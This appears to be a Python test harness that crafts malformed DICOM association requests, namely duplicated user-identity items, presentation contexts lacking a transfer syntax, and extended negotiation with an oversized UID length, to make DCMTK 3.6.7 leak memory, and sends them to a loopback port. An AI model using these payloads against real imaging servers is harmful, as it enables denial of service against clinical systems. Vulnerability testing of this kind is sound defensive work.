"""A-ASSOCIATE-RQs of which DCMTK 3.6.7 leaks tens of kilobytes each, before anybody looks at their AE titles (PS3.8
§9.3.2, PS3.7 Annex D.3.3)."""

from __future__ import annotations

import socket
import struct

from surroundings import LOOPBACK

VERIFICATION = "1.2.840.10008.1.1"
IMPLICIT_LITTLE_ENDIAN = "1.2.840.10008.1.2"
ANSWERS = {0x02: "accepted", 0x03: "rejected", 0x07: "aborted"}
ABORT = struct.pack(">BxIxxBB", 0x07, 4, 0, 0)


def item(kind: int, value: bytes) -> bytes:
    return struct.pack(">BxH", kind, len(value)) + value


def context(number: int, *, with_syntax: bool = True) -> bytes:
    syntax = item(0x40, IMPLICIT_LITTLE_ENDIAN.encode()) if with_syntax else b""
    return item(0x20, bytes([number, 0, 0, 0]) + item(0x30, VERIFICATION.encode()) + syntax)


def association_request(
    *, called: str, calling: str = "HOSTILE", contexts: bytes | None = None, user_items: bytes = b""
) -> bytes:
    user = item(0x51, struct.pack(">I", 16384)) + item(0x52, b"2.25.1") + user_items
    body = struct.pack(">HH16s16s32x", 1, 0, called.ljust(16).encode(), calling.ljust(16).encode())
    body += item(0x10, b"1.2.840.10008.3.1.1.1") + (context(1) if contexts is None else contexts) + item(0x50, user)
    return struct.pack(">BxI", 0x01, len(body)) + body


def duplicate_user_identity(called: str) -> bytes:
    name = b"n" * 1000
    identity = item(0x58, struct.pack(">BBH", 1, 0, len(name)) + name + struct.pack(">H", 0))
    return association_request(called=called, user_items=identity * 40)


def contexts_without_syntax(called: str) -> bytes:
    contexts = b"".join(context(number, with_syntax=False) for number in range(1, 256, 2))
    return association_request(called=called, contexts=contexts)


def malformed_extended_negotiation(called: str) -> bytes:
    """Whole items of much application information, and a last one whose UID is longer than the item."""
    whole = item(0x56, struct.pack(">H", len(VERIFICATION)) + VERIFICATION.encode() + b"i" * 1000)
    broken = item(0x56, struct.pack(">H", 60000) + VERIFICATION.encode())
    return association_request(called=called, user_items=whole * 30 + broken)


KINDS = {
    "duplicate user identity": duplicate_user_identity,
    "contexts without transfer syntax": contexts_without_syntax,
    "malformed extended negotiation": malformed_extended_negotiation,
}


def ask(port: int, request: bytes, patience_seconds: float) -> str:
    """Sends a request on a connection of its own; says how it was answered."""
    with socket.create_connection((LOOPBACK, port), timeout=patience_seconds) as one:
        try:
            one.sendall(request)
            answer = one.recv(4096)
            if answer and answer[0] == 0x02:
                one.sendall(ABORT)
        except TimeoutError:
            return "no answer"
        except OSError:
            return "reset"
    return ANSWERS.get(answer[0], "something else") if answer else "closed"
